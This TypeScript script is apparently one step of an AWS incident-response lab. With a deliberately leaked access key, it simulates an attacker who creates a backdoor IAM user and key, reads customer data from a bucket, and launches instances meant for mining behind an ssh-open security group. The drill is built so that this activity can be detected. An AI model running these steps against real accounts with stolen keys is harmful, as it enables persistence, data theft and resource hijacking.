#!/usr/bin/env -S node --conditions=@handson/source --import=tsx
// 攻撃者のシミュレーション: someone found the key. With it they do what the notes warn of: an IAM user and an
// access key to come back with, then in several regions a key pair, a security group open to the world
// and instances (for mining). Everything it makes carries the lab's tag so teardown can always find it; the
// drill itself does not use the tags, it finds everything through the event history.
// The attack happens once per drill: run again, the step reports the attack its log records instead of
// making a second backdoor user and more instances, and it stops at leftovers of an attack that broke off.
import { existsSync } from 'node:fs';
import {
  AuthorizeSecurityGroupIngressCommand,
  CreateKeyPairCommand,
  CreateSecurityGroupCommand,
  DescribeImagesCommand,
  DescribeKeyPairsCommand,
  DescribeSecurityGroupsCommand,
  type DescribeSecurityGroupsResult,
  RunInstancesCommand,
} from '@aws-sdk/client-ec2';
import {
  CreateAccessKeyCommand,
  CreateUserCommand,
  ListAccessKeysCommand,
  type ListAccessKeysResponse,
} from '@aws-sdk/client-iam';
import {
  GetObjectCommand,
  ListBucketsCommand,
  ListObjectsV2Command,
  PutObjectCommand,
} from '@aws-sdk/client-s3';
import { GetCallerIdentityCommand } from '@aws-sdk/client-sts';
import { clients, ec2TagSpecifications, iamTags, LAB_TAG_KEY, notice } from '@handson/aws';
import { allPages } from '@handson/cli';
import { aws, LabStepError, teardownCommand } from '@handson/labkit';
import { step } from '../_lib/entry.mts';
import { invocation } from '../_lib/invocation.mts';
import {
  ATTACKER_APP_ID,
  ATTACKER_INSTANCES_PER_REGION,
  ATTACKER_KEY_NAME,
  ATTACKER_REGIONS,
  ATTACKER_SG_NAME,
  ATTACKER_USER_NAME,
  attackerLogFile,
  awsWithNewKey,
  findUser,
  IMAGE_NAME_PATTERN,
  isOurs,
  type KeyFile,
  keyFile,
  liveInstances,
  type Made,
  need,
  notOurs,
  readJson,
  readLabFile,
  regionClients,
  SLUG,
  sayRegion,
  writePrivate,
} from './lab.mts';
import { LAB } from './manifest.mts';
import { bodyFile, DATA_KEY, NOTE_BODY, NOTE_KEY } from './trail.mts';

await step(LAB, '02-attacker');

const EXPOSED_ACCESS_KEY_ID = need('EXPOSED_ACCESS_KEY_ID', '01-setup');
const leaked = readLabFile<KeyFile>(keyFile('exposed'), '01-setup');
const stolen = { accessKeyId: leaked.AccessKeyId, secretAccessKey: leaked.SecretAccessKey };
const DATA_BUCKET = need('DATA_BUCKET', '01-trail');

function summary(made: Made): string {
  return `# the attacker made ${made.users.length} user, ${made.accessKeys.length} access key, and in ${Object.keys(made.regions).length} regions ${ATTACKER_INSTANCES_PER_REGION} instances, a key pair and a security group each`;
}

/** A run after the attack: what its log records, and how much of it is still there (looked up as the lab). */
async function reportEarlierAttack(made: Made): Promise<void> {
  const usersLeft = [];
  for (const name of made.users) if (await findUser(name)) usersLeft.push(name);
  let instances = 0;
  let live = 0;
  for (const [region, r] of Object.entries(made.regions)) {
    instances += r.instances.length;
    if (r.instances.length === 0) continue;
    const filter = [{ Name: 'instance-id', Values: r.instances }];
    live += (await liveInstances(regionClients(region), filter)).length;
  }
  const state =
    usersLeft.length + live === 0
      ? 'Everything it made has been removed since.'
      : `Still there: ${usersLeft.length} backdoor user(s), ${live} of ${instances} instances.`;
  notice(
    `The attack already ran (recorded in ${attackerLogFile()}): it is not made twice, a second backdoor ` +
      `user and more instances would only blur the drill. ${state} To run the drill from the start, run ` +
      `${teardownCommand(SLUG)}, then ${invocation(SLUG, '01-setup')}.`,
  );
  console.log(summary(made));
}

/** Stops at anything of the attacker's names left from an attack that broke off, or that is not the lab's. */
function leftover(what: string, ours: boolean): never {
  if (ours) {
    throw new LabStepError(
      `${what} is left from an earlier attack that did not finish (there is no ${attackerLogFile()}): run ` +
        `${teardownCommand(SLUG)}, then ${invocation(SLUG, '01-setup')} and this step again.`,
    );
  }
  throw notOurs(what);
}

async function refuseLeftovers(): Promise<void> {
  const user = await findUser(ATTACKER_USER_NAME);
  if (user) leftover(`IAM user ${ATTACKER_USER_NAME}`, isOurs(user.Tags));
  for (const region of ATTACKER_REGIONS) {
    const c = regionClients(region);
    const byKeyName = [{ Name: 'key-name', Values: [ATTACKER_KEY_NAME] }];
    const pairs = await c.ec2.send(new DescribeKeyPairsCommand({ Filters: byKeyName }));
    for (const k of pairs.KeyPairs ?? []) leftover(`key pair ${k.KeyName} in ${region}`, isOurs(k.Tags));
    const groups = await allPages<DescribeSecurityGroupsResult>(
      c.ec2,
      new DescribeSecurityGroupsCommand({ Filters: [{ Name: 'group-name', Values: [ATTACKER_SG_NAME] }] }),
    );
    for (const g of groups.SecurityGroups ?? [])
      leftover(`security group ${g.GroupName} (${g.GroupId}) in ${region}`, isOurs(g.Tags));
    const tagged = [{ Name: `tag:${LAB_TAG_KEY}`, Values: [SLUG] }, ...byKeyName];
    for (const i of await liveInstances(c, tagged)) leftover(`instance ${i.InstanceId} in ${region}`, true);
  }
}

/** The attacker needs the key to work: after 04-disable-delete-key it does not, and the drill has run. */
async function checkKeyActive(): Promise<void> {
  const keys = await allPages<ListAccessKeysResponse>(
    clients().iam,
    new ListAccessKeysCommand({ UserName: leaked.UserName }),
  );
  const status = keys.AccessKeyMetadata?.find((k) => k.AccessKeyId === EXPOSED_ACCESS_KEY_ID)?.Status;
  if (status === 'Active') return;
  throw new LabStepError(
    `The exposed key ${EXPOSED_ACCESS_KEY_ID} is ${status ? status.toLowerCase() : 'deleted'}: there is nothing ` +
      `to attack with. To run the drill from the start, run ${teardownCommand(SLUG)}, then ` +
      `${invocation(SLUG, '01-setup')}.`,
  );
}

/** A user and a key of the attacker's own, to come back after the leaked key is gone. */
async function persist(): Promise<Made> {
  const home = regionClients(ATTACKER_REGIONS[0], stolen);
  console.log('# the attacker: whose key is this?');
  // 01-setup made the key moments ago: on AWS it works after a few seconds (IAM is eventually consistent).
  await awsWithNewKey(
    new GetCallerIdentityCommand({}),
    { clients: home, query: 'Arn', output: 'text' },
    'the leaked key',
  );
  console.log('# the attacker: a user and a key of its own, to come back after the leaked key is gone');
  await aws(new CreateUserCommand({ UserName: ATTACKER_USER_NAME, Tags: iamTags(SLUG) }), {
    clients: home,
    query: 'User.Arn',
    output: 'text',
  });
  const backdoor = await aws(new CreateAccessKeyCommand({ UserName: ATTACKER_USER_NAME }), {
    clients: home,
    query: 'AccessKey.AccessKeyId',
    output: 'text',
  });
  const backdoorKey = backdoor.output.AccessKey!;
  writePrivate(keyFile('backdoor'), {
    UserName: backdoorKey.UserName,
    AccessKeyId: backdoorKey.AccessKeyId,
    SecretAccessKey: backdoorKey.SecretAccessKey,
  });
  const viaBackdoor = regionClients('us-east-1', {
    accessKeyId: backdoorKey.AccessKeyId as string,
    secretAccessKey: backdoorKey.SecretAccessKey as string,
  });
  await awsWithNewKey(
    new GetCallerIdentityCommand({}),
    { clients: viaBackdoor, query: 'Arn', output: 'text' },
    "the attacker's new key",
  );
  return { users: [ATTACKER_USER_NAME], accessKeys: [backdoorKey.AccessKeyId as string], regions: {} };
}

/**
 * The data: the buckets, the data bucket's keys, one object read (its bytes are the attacker's, neither
 * printed nor kept here), and a note left in its place. These are S3 data events: only the trail sees them.
 */
async function loot(): Promise<void> {
  const c = regionClients(clients().region, stolen);
  console.log('# the attacker: what is in the buckets?');
  await aws(new ListBucketsCommand({}), { clients: c, query: 'Buckets[].Name', output: 'text' });
  await aws(new ListObjectsV2Command({ Bucket: DATA_BUCKET }), {
    clients: c,
    query: 'Contents[].Key',
    output: 'text',
  });
  // The simulated attacker drops the bytes it read: the drill keeps no copy of the data.
  await aws(new GetObjectCommand({ Bucket: DATA_BUCKET, Key: DATA_KEY }), {
    clients: c,
    query: '[ContentType,ContentLength]',
    output: 'text',
    outfile: 'customers-2021.csv',
  });
  const note = bodyFile(NOTE_KEY, NOTE_BODY);
  await aws(
    new PutObjectCommand({ Bucket: DATA_BUCKET, Key: NOTE_KEY, Body: note.bytes, ContentType: 'text/plain' }),
    { clients: c, files: { Body: note.shown }, query: 'ETag', output: 'text' },
  );
}

/** In one region: the newest Amazon Linux image, a key pair, a security group open to ssh, instances. */
async function mine(region: string): Promise<Made['regions'][string]> {
  console.log(`# the attacker: mining in ${region}`);
  sayRegion(region);
  const c = regionClients(region, stolen);
  const images = await aws(
    new DescribeImagesCommand({
      Owners: ['amazon'],
      Filters: [{ Name: 'name', Values: [IMAGE_NAME_PATTERN] }],
    }),
    { clients: c, query: 'sort_by(Images, &CreationDate)[-1].ImageId', output: 'text' },
  );
  const imageId = [...(images.output.Images ?? [])]
    .sort((a, b) => String(a.CreationDate).localeCompare(String(b.CreationDate)))
    .at(-1)?.ImageId as string;
  // The private key is the attacker's; it is neither printed nor kept.
  const keyPair = await aws(
    new CreateKeyPairCommand({
      KeyName: ATTACKER_KEY_NAME,
      TagSpecifications: ec2TagSpecifications(SLUG, ['key-pair']),
    }),
    { clients: c, query: 'KeyPairId', output: 'text' },
  );
  const sg = await aws(
    new CreateSecurityGroupCommand({
      GroupName: ATTACKER_SG_NAME,
      Description: 'ssh from anywhere',
      TagSpecifications: ec2TagSpecifications(SLUG, ['security-group']),
    }),
    { clients: c, query: 'GroupId', output: 'text' },
  );
  const groupId = sg.output.GroupId as string;
  await aws(
    new AuthorizeSecurityGroupIngressCommand({
      GroupId: groupId,
      IpPermissions: [{ IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0' }] }],
    }),
    { clients: c, query: 'Return', output: 'text' },
  );
  const run = await aws(
    new RunInstancesCommand({
      ImageId: imageId,
      InstanceType: 't3.micro',
      MinCount: ATTACKER_INSTANCES_PER_REGION,
      MaxCount: ATTACKER_INSTANCES_PER_REGION,
      KeyName: ATTACKER_KEY_NAME,
      SecurityGroupIds: [groupId],
      TagSpecifications: ec2TagSpecifications(SLUG, ['instance']),
    }),
    { clients: c, query: 'Instances[].InstanceId', output: 'text' },
  );
  return {
    instances: (run.output.Instances ?? []).map((i) => i.InstanceId as string),
    keyPairs: [keyPair.output.KeyName ?? ATTACKER_KEY_NAME],
    securityGroups: [groupId],
  };
}

async function attack(): Promise<void> {
  // The SDK adds `app/<id>` to every request's User-Agent: the attacker's calls stand out in the records.
  const appId = process.env.AWS_SDK_UA_APP_ID;
  process.env.AWS_SDK_UA_APP_ID = ATTACKER_APP_ID;
  try {
    const truth = await persist();
    await loot();
    for (const region of ATTACKER_REGIONS) truth.regions[region] = await mine(region);
    // What the attacker really did, kept aside so the drill's report can be checked against it.
    writePrivate(attackerLogFile(), truth);
    console.log(summary(truth));
  } finally {
    if (appId === undefined) delete process.env.AWS_SDK_UA_APP_ID;
    else process.env.AWS_SDK_UA_APP_ID = appId;
  }
}

if (existsSync(attackerLogFile())) {
  await reportEarlierAttack(readJson<Made>(attackerLogFile()));
} else {
  await refuseLeftovers();
  await checkKeyActive();
  await attack();
}
